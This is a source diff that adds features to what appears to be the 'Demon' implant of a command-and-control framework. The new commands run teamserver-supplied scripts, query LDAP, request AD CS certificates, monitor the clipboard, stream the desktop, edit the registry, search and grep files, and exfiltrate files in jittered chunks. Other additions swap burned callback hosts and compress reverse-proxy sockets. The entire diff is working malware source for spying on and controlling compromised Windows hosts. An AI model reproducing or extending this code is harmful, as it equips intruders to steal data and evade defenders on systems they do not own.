@@ -11,6 +11,14 @@
 #include <core/Dotnet.h>
 #include <core/Kerberos.h>
 #include <core/CoffeeLdr.h>
+#include <core/Script.h>
+#include <core/Ldap.h>
+#include <core/Adcs.h>
+#include <core/Clipboard.h>
+#include <core/Registry.h>
+#include <core/Desktop.h>
+#include <core/FileSearch.h>
+#include <crypt/Sha256.h>
 #include <inject/Inject.h>
 
 SEC_DATA DEMON_COMMAND DemonCommands[] = {
@@ -35,6 +43,14 @@ SEC_DATA DEMON_COMMAND DemonCommands[] = {
         { .ID = DEMON_COMMAND_SOCKET,                   .Function = CommandSocket                   },
         { .ID = DEMON_COMMAND_KERBEROS,                 .Function = CommandKerberos                 },
         { .ID = DEMON_COMMAND_MEM_FILE,                 .Function = CommandMemFile                  },
+        { .ID = DEMON_COMMAND_SCRIPT,                   .Function = CommandScript                   },
+        { .ID = DEMON_COMMAND_LDAP,                     .Function = CommandLdap                     },
+        { .ID = DEMON_COMMAND_ADCS,                     .Function = CommandAdcs                     },
+        { .ID = DEMON_COMMAND_BACKPRESSURE,             .Function = CommandBackpressure             },
+        { .ID = DEMON_COMMAND_CLIPBOARD,                .Function = CommandClipboard                },
+        { .ID = DEMON_COMMAND_REGISTRY,                 .Function = CommandRegistry                 },
+        { .ID = DEMON_COMMAND_DESKTOP,                  .Function = CommandDesktop                  },
+        { .ID = DEMON_COMMAND_FILESEARCH,               .Function = CommandFileSearch               },
         { .ID = DEMON_EXIT,                             .Function = CommandExit                     },
 
         // End
@@ -153,6 +169,12 @@ VOID CommandDispatcher( VOID )
         /* push any new clients or output from the sockets */
         SocketPush();
 
+        /* push the clipboard if it changed while monitoring it */
+        ClipboardPush();
+
+        /* push the tiles of the desktop that changed while viewing it */
+        DesktopPush();
+
     } while ( TRUE );
 
     Instance->Session.Connected = FALSE;
@@ -801,9 +823,24 @@ VOID CommandFS( PPARSER Parser )
             WCHAR          FilePath[ MAX_PATH * 2 ] = { 0 };
             WCHAR          PathSize = MAX_PATH * 2;
             LARGE_INTEGER  FileSize = { 0 };
+            LARGE_INTEGER  Offset   = { 0 };
+            LONGLONG       Length   = 0;
+            BOOL           HashOnly = FALSE;
 
             Buffer = ParserGetBytes( Parser, &FileName.Length );
 
+            /* optional range of the file (segmented downloads) */
+            if ( Parser->Length >= sizeof( INT64 ) * 2 )
+            {
+                Offset.QuadPart = ParserGetInt64( Parser );
+                Length          = ParserGetInt64( Parser );
+            }
+
+            /* optionally only send the hash of the file. the teamserver asks for the transfer if it doesn't have it yet */
+            if ( Parser->Length >= sizeof( INT32 ) ) {
+                HashOnly = ParserGetInt32( Parser );
+            }
+
             FileName.Buffer = MmHeapAlloc( FileName.Length + sizeof( WCHAR ) );
             MemCopy( FileName.Buffer, Buffer, FileName.Length );
 
@@ -833,6 +870,98 @@ VOID CommandFS( PPARSER Parser )
                 goto CleanupDownload;
             }
 
+            if ( Offset.QuadPart > 0 || Length > 0 )
+            {
+                if ( Offset.QuadPart > FileSize.QuadPart || ! Instance->Win32.SetFilePointerEx( hFile, Offset, NULL, FILE_BEGIN ) )
+                {
+                    PUTS( "SetFilePointerEx: Failed" )
+
+                    PACKAGE_ERROR_WIN32
+
+                    Success = FALSE;
+                    goto CleanupDownload;
+                }
+
+                FileSize.QuadPart -= Offset.QuadPart;
+                if ( Length > 0 && Length < FileSize.QuadPart ) {
+                    FileSize.QuadPart = Length;
+                }
+            }
+
+            if ( HashOnly )
+            {
+                SHA256CTX Sha256  = { 0 };
+                UINT8     Hash[ SHA256_HASHLEN ] = { 0 };
+                PVOID     Chunk   = NULL;
+                DWORD     Read    = 0;
+                LONGLONG  Left    = FileSize.QuadPart;
+
+                if ( ! ( Chunk = MmHeapAlloc( DOWNLOAD_HASH_CHUNK ) ) )
+                {
+                    PACKAGE_ERROR_WIN32
+
+                    Success = FALSE;
+                    goto CleanupDownload;
+                }
+
+                Sha256Init( &Sha256 );
+
+                while ( Left > 0 )
+                {
+                    if ( ! Instance->Win32.ReadFile( hFile, Chunk, ( DWORD ) MIN( Left, DOWNLOAD_HASH_CHUNK ), &Read, NULL ) || ! Read ) {
+                        break;
+                    }
+
+                    Sha256Update( &Sha256, Chunk, Read );
+                    Left -= Read;
+                }
+
+                DATA_FREE( Chunk, DOWNLOAD_HASH_CHUNK );
+
+                /* the file shrunk or can't be read. transfer whatever the download gets instead */
+                if ( Left > 0 )
+                {
+                    PUTS( "ReadFile: Failed to hash file" )
+
+                    Offset.QuadPart = 0;
+                    if ( ! Instance->Win32.SetFilePointerEx( hFile, Offset, NULL, FILE_BEGIN ) )
+                    {
+                        PACKAGE_ERROR_WIN32
+
+                        Success = FALSE;
+                        goto CleanupDownload;
+                    }
+                }
+                else
+                {
+                    Sha256Final( &Sha256, Hash );
+
+                    /*
+                     * Download Header:
+                     *  [ Mode      ] Hash ( 3 )
+                     *  [ File ID   ] 0, nothing gets transferred yet
+                     *
+                     * Data (Hash):
+                     *  [ File Size ]
+                     *  [ File Name ]
+                     *  [  SHA256   ]
+                     * */
+                    PackageAddInt32( Package, DOWNLOAD_MODE_HASH );
+                    PackageAddInt32( Package, 0 );
+                    PackageAddInt64( Package, FileSize.QuadPart );
+                    if ( PathSize > 0 )
+                        PackageAddWString( Package, FilePath );
+                    else
+                        PackageAddWString( Package, FileName.Buffer );
+                    PackageAddBytes( Package, Hash, SHA256_HASHLEN );
+
+                    SysNtClose( hFile );
+                    hFile = NULL;
+
+                    goto CleanupDownload;
+                }
+            }
+
             /* Start our download. */
             Download = DownloadAdd( hFile, FileSize.QuadPart );
 
@@ -1946,6 +2075,19 @@ VOID CommandConfig( PPARSER Parser )
             break;
         }
 
+        case DEMON_CONFIG_IMPLANT_DOWNLOAD_JITTER:
+        {
+            Instance->Config.Implant.DownloadChunkJitter = ParserGetInt32( Parser );
+
+            /* always send at least a few bytes per chunk */
+            if ( Instance->Config.Implant.DownloadChunkJitter > 90 ) {
+                Instance->Config.Implant.DownloadChunkJitter = 90;
+            }
+
+            PackageAddInt32( Package, Instance->Config.Implant.DownloadChunkJitter );
+            break;
+        }
+
         case DEMON_CONFIG_MEMORY_ALLOC:
         {
             Instance->Config.Memory.Alloc = ParserGetInt32( Parser );
@@ -2073,6 +2215,44 @@ VOID CommandConfig( PPARSER Parser )
             break;
         }
 
+#ifdef TRANSPORT_HTTP
+        case DEMON_CONFIG_TRANSPORT_HOSTS:
+        {
+            PHOST_DATA Hosts = Instance->Config.Transport.Hosts;
+            PHOST_DATA Host  = Instance->Config.Transport.Host;
+
+            /* replaces the callback hosts of the current listener. (one of them has been burned) */
+            HttpConfigHosts( Parser );
+
+            if ( ! Instance->Config.Transport.NumHosts )
+            {
+                /* keep the hosts we have rather than having none to call back to */
+                Instance->Config.Transport.Hosts    = Hosts;
+                Instance->Config.Transport.Host     = Host;
+                Instance->Config.Transport.NumHosts = HostCount();
+
+                PackageAddInt32( Package, 0 );
+                break;
+            }
+
+            HttpConfigHostHeaders( Parser );
+
+            if ( Instance->Config.Transport.Transports ) {
+                HttpTransportSave( Instance->Config.Transport.TransportIndex );
+            }
+
+            /* the new hosts might sit behind another proxy */
+            Instance->LookedForProxy = FALSE;
+
+            Instance->Config.Transport.Host = HostRotation( Instance->Config.Transport.HostRotation );
+
+            PRINTF( "Callback hosts switched => %d hosts\n", Instance->Config.Transport.NumHosts );
+            PackageAddInt32( Package, Instance->Config.Transport.NumHosts );
+
+            break;
+        }
+#endif
+
         default:
             PackageAddInt32( Package, 0 );
             break;
@@ -2879,6 +3059,7 @@ VOID CommandSocket( PPARSER Parser )
         {
             DWORD  SocketID = 0;
             BUFFER Data     = { 0 };
+            BUFFER Frame    = { 0 };
             BOOL   Success  = FALSE;
             DWORD  Type     = SOCKET_TYPE_NONE;
 
@@ -2906,17 +3087,42 @@ VOID CommandSocket( PPARSER Parser )
                 {
                     Type = Socket->Type;
 
+                    /* the teamserver sends compressed frames to this socket */
+                    if ( Socket->Flags & SOCKET_FLAG_COMPRESS )
+                    {
+                        Frame = Data;
+
+                        if ( ! SocketDecompress( &Frame, &Data ) ) {
+                            PRINTF( "Failed to decompress 0x%x bytes for Socket %x\n", Frame.Length, SocketID )
+                            Frame.Buffer = NULL;
+                            break;
+                        }
+                    }
+
                     /* write the data to the socket */
                     if ( Instance->Win32.send( Socket->Socket, Data.Buffer, Data.Length, 0 ) != SOCKET_ERROR )
                     {
                         PRINTF( "Sent 0x%x bytes to Socket %x\n", Data.Length, SocketID )
                         Success = TRUE;
+
+                        /* acknowledged once we are done with the sockets (see SocketWindow) */
+                        if ( Socket->Flags & SOCKET_FLAG_WINDOW ) {
+                            Socket->Written += Data.Length;
+                        }
                     }
                     else
                     {
                         PRINTF( "Sending 0x%x bytes to Socket %x failed with %d\n", Data.Length, SocketID, Instance->Win32.WSAGetLastError() );
                     }
 
+                    /* free the decompressed data */
+                    if ( Frame.Buffer )
+                    {
+                        MemSet( Data.Buffer, 0, Data.Length );
+                        MmHeapFree( Data.Buffer );
+                        Data.Buffer = NULL;
+                    }
+
                     break;
                 }
 
@@ -2951,6 +3157,7 @@ VOID CommandSocket( PPARSER Parser )
             INT16  Port       = 0;
             LPSTR  Domain     = NULL;
             UINT32 ErrorCode  = 0;
+            DWORD  Flags      = 0;
 
             /* parse arguments */
             ScId   = ParserGetInt32( Parser );
@@ -2958,6 +3165,14 @@ VOID CommandSocket( PPARSER Parser )
             HostIp = ParserGetBytes( Parser, &HostIpSize );
             Port   = ParserGetInt16( Parser );
 
+            /* older teamservers don't ask for any */
+            Flags  = ParserGetInt32( Parser ) & ( SOCKET_FLAG_WINDOW | SOCKET_FLAG_COMPRESS );
+
+            /* can't compress without ntdll's lznt1 */
+            if ( ! Instance->Win32.RtlCompressBuffer || ! Instance->Win32.RtlDecompressBuffer ) {
+                Flags &= ~SOCKET_FLAG_COMPRESS;
+            }
+
             if ( ATYP == 1 )
             {
                 // IPv4
@@ -3002,7 +3217,8 @@ VOID CommandSocket( PPARSER Parser )
                 /* Create a socks proxy socket and insert it into the linked list. */
                 if ( ( Socket = SocketNew( 0, SOCKET_TYPE_REVERSE_PROXY, UseIpv4, IPv4, IPv6, Port, 0, 0, 0 ) ) )
                 {
-                    Socket->ID = ScId;
+                    Socket->ID    = ScId;
+                    Socket->Flags = Flags;
                     ErrorCode = 0;
                 }
                 else
@@ -3023,6 +3239,7 @@ VOID CommandSocket( PPARSER Parser )
 
             PackageAddInt32( Package, ScId );
             PackageAddInt32( Package, ErrorCode );
+            PackageAddInt32( Package, Flags );
 
             if ( IPv6 )
             {
@@ -3260,6 +3477,264 @@ VOID CommandMemFile( PPARSER Parser )
     PackageTransmit( Package );
 }
 
+VOID CommandScript( PPARSER Parser )
+{
+    PPACKAGE Package = PackageCreate( DEMON_COMMAND_SCRIPT );
+    SCRIPT   Script  = { 0 };
+    UINT32   Size    = 0;
+
+    PUTS( "Script" )
+
+    Script.Source   = ParserGetString( Parser, &Script.Length );
+    Script.ArgCount = ParserGetInt32( Parser );
+
+    if ( Script.ArgCount > 0 )
+    {
+        Script.Args = MmHeapAlloc( Script.ArgCount * sizeof( PCHAR ) );
+
+        for ( UINT32 i = 0; i < Script.ArgCount; i++ ) {
+            Script.Args[ i ] = ParserGetString( Parser, &Size );
+        }
+    }
+
+    /* the string sent by the teamserver contains the null terminator */
+    if ( Script.Length && Script.Source[ Script.Length - 1 ] == 0 ) {
+        Script.Length--;
+    }
+
+    ScriptRun( &Script );
+
+    PRINTF( "Script finished: ExitCode:[%d] Line:[%d] Error:[%s]\n", Script.ExitCode, Script.Line, Script.Error )
+
+    PackageAddInt32( Package, Script.ExitCode );
+    PackageAddInt32( Package, Script.Line );
+    PackageAddString( Package, Script.Error );
+    PackageAddBytes( Package, Script.Output, Script.OutputLength );
+
+    /* variables set by the script for structured results */
+    PackageAddInt32( Package, Script.VarCount );
+    for ( UINT32 i = 0; i < Script.VarCount; i++ ) {
+        PackageAddString( Package, Script.Vars[ i ].Name );
+        PackageAddString( Package, Script.Vars[ i ].Value );
+    }
+
+    ScriptFree( &Script );
+
+    PackageTransmit( Package );
+}
+
+VOID CommandLdap( PPARSER Parser )
+{
+    LDAP_QUERY Query = { 0 };
+    UINT32     Size  = 0;
+
+    PUTS( "Ldap" )
+
+    Query.Server     = ParserGetString( Parser, &Size );
+    Query.BaseDN     = ParserGetString( Parser, &Size );
+    Query.Filter     = ParserGetString( Parser, &Size );
+    Query.Attributes = ParserGetString( Parser, &Size );
+    Query.Scope      = ParserGetInt32( Parser );
+    Query.PageSize   = ParserGetInt32( Parser );
+    Query.MaxEntries = ParserGetInt32( Parser );
+    Query.Context    = ParserGetString( Parser, &Size );
+
+    if ( ! Query.PageSize ) {
+        Query.PageSize = LDAP_PAGE_SIZE;
+    }
+
+    LdapQuery( &Query );
+}
+
+VOID CommandAdcs( PPARSER Parser )
+{
+    ADCS_REQUEST Request = { 0 };
+    UINT32       Size    = 0;
+    UINT32       Command = ParserGetInt32( Parser );
+
+    switch ( Command )
+    {
+        case ADCS_COMMAND_REQUEST: PUTS( "Adcs::Request" )
+        {
+            Request.Config     = ParserGetWString( Parser, &Size );
+            Request.Request    = ParserGetWString( Parser, &Size );
+            Request.Attributes = ParserGetWString( Parser, &Size );
+
+            AdcsRequest( &Request );
+
+            break;
+        }
+
+        default: PRINTF( "Adcs: unknown command %d\n", Command )
+            break;
+    }
+}
+
+VOID CommandBackpressure( PPARSER Parser )
+{
+    /* no reply. the teamserver sees the effect on the next callbacks */
+    Instance->Config.Transport.MaxRequest = ParserGetInt32( Parser );
+    Instance->Config.Transport.Backoff    = ParserGetInt32( Parser );
+
+    PRINTF( "Backpressure: MaxRequest:[%d] Backoff:[%d]\n", Instance->Config.Transport.MaxRequest, Instance->Config.Transport.Backoff )
+}
+
+VOID CommandClipboard( PPARSER Parser )
+{
+    PPACKAGE Package  = NULL;
+    UINT32   Command  = ParserGetInt32( Parser );
+    UINT32   Previous = 0;
+
+    PRINTF( "Clipboard: Command:[%d]\n", Command )
+
+    /* the teamserver forgets the request of the monitor that gets replaced or stopped */
+    if ( Instance->Clipboard.Monitor ) {
+        Previous = Instance->Clipboard.RequestID;
+    }
+
+    switch ( Command )
+    {
+        case CLIPBOARD_COMMAND_GET:
+        {
+            ClipboardSend( CLIPBOARD_COMMAND_GET, Instance->CurrentRequestID );
+            return;
+        }
+
+        case CLIPBOARD_COMMAND_START:
+        {
+            /* the changes are sent as answer of the start request */
+            Instance->Clipboard.Monitor   = TRUE;
+            Instance->Clipboard.RequestID = Instance->CurrentRequestID;
+            Instance->Clipboard.Sequence  = 0;
+            break;
+        }
+
+        case CLIPBOARD_COMMAND_STOP:
+        {
+            Instance->Clipboard.Monitor   = FALSE;
+            Instance->Clipboard.RequestID = 0;
+            break;
+        }
+
+        default:
+            return;
+    }
+
+    Package = PackageCreate( DEMON_COMMAND_CLIPBOARD );
+
+    PackageAddInt32( Package, Command );
+    PackageAddBool( Package, Instance->Clipboard.Monitor );
+    PackageAddInt32( Package, Previous );
+
+    PackageTransmit( Package );
+}
+
+VOID CommandRegistry( PPARSER Parser )
+{
+    REGISTRY_TASK Task = { 0 };
+    UINT32        Size = 0;
+
+    Task.Command = ParserGetInt32( Parser );
+    Task.Hive    = ParserGetInt32( Parser );
+    Task.Path    = ParserGetWString( Parser, &Size );
+    Task.Name    = ParserGetWString( Parser, &Size );
+    Task.View    = ParserGetInt32( Parser );
+
+    if ( Task.Command == REGISTRY_COMMAND_SET ) {
+        Task.Type = ParserGetInt32( Parser );
+        Task.Data = ParserGetBytes( Parser, &Task.Size );
+    }
+
+    PRINTF( "Registry: Command:[%d] Hive:[%d] Path:[%ls] Name:[%ls]\n", Task.Command, Task.Hive, Task.Path, Task.Name )
+
+    RegistryTask( &Task );
+}
+
+VOID CommandDesktop( PPARSER Parser )
+{
+    PPACKAGE Package  = NULL;
+    UINT32   Command  = ParserGetInt32( Parser );
+    UINT32   Previous = 0;
+
+    PRINTF( "Desktop: Command:[%d]\n", Command )
+
+    /* the teamserver forgets the request of the view that gets replaced or stopped */
+    if ( Instance->Desktop.Running ) {
+        Previous = Instance->Desktop.RequestID;
+    }
+
+    switch ( Command )
+    {
+        case DESKTOP_COMMAND_START:
+        {
+            /* drop the tiles of the last view so the first frame holds every tile */
+            DesktopStop();
+
+            Instance->Desktop.Interval = ParserGetInt32( Parser );
+            Instance->Desktop.Scale    = ParserGetInt32( Parser );
+            Instance->Desktop.Budget   = ParserGetInt32( Parser );
+
+            if ( ! Instance->Desktop.Scale || Instance->Desktop.Scale > DESKTOP_SCALE_MAX ) {
+                Instance->Desktop.Scale = 1;
+            }
+
+            /* the frames are sent as answer of the start request */
+            Instance->Desktop.Running   = TRUE;
+            Instance->Desktop.RequestID = Instance->CurrentRequestID;
+            Instance->Desktop.Last      = 0;
+            Instance->Desktop.Frame     = 0;
+            break;
+        }
+
+        case DESKTOP_COMMAND_STOP:
+        {
+            DesktopStop();
+            break;
+        }
+
+        default:
+            return;
+    }
+
+    Package = PackageCreate( DEMON_COMMAND_DESKTOP );
+
+    PackageAddInt32( Package, Command );
+    PackageAddBool( Package, Instance->Desktop.Running );
+    PackageAddInt32( Package, Previous );
+
+    PackageTransmit( Package );
+}
+
+VOID CommandFileSearch( PPARSER Parser )
+{
+    FILESEARCH Search = { 0 };
+    UINT32     Size   = 0;
+    UINT32     Count  = 0;
+
+    Search.Path = ParserGetWString( Parser, &Size );
+    Count       = ParserGetInt32( Parser );
+
+    for ( UINT32 i = 0; i < Count; i++ ) {
+        PWCHAR Pattern = ParserGetWString( Parser, &Size );
+
+        if ( Search.PatternCount < FILESEARCH_MAX_PATTERNS ) {
+            Search.Patterns[ Search.PatternCount++ ] = Pattern;
+        }
+    }
+
+    Search.Depth      = ParserGetInt32( Parser );
+    Search.MinSize    = ParserGetInt64( Parser );
+    Search.MaxSize    = ParserGetInt64( Parser );
+    Search.After      = ParserGetInt64( Parser );
+    Search.Before     = ParserGetInt64( Parser );
+    Search.Grep       = ParserGetBytes( Parser, &Search.GrepSize );
+    Search.MaxMatches = ParserGetInt32( Parser );
+
+    PRINTF( "FileSearch: Path:[%ls] Patterns:[%d] Depth:[%d] Grep:[%d]\n", Search.Path, Search.PatternCount, Search.Depth, Search.GrepSize )
+
+    FileSearch( &Search );
+}
+
 BOOL InWorkingHours( )
 {
     SYSTEMTIME SystemTime   = { 0 };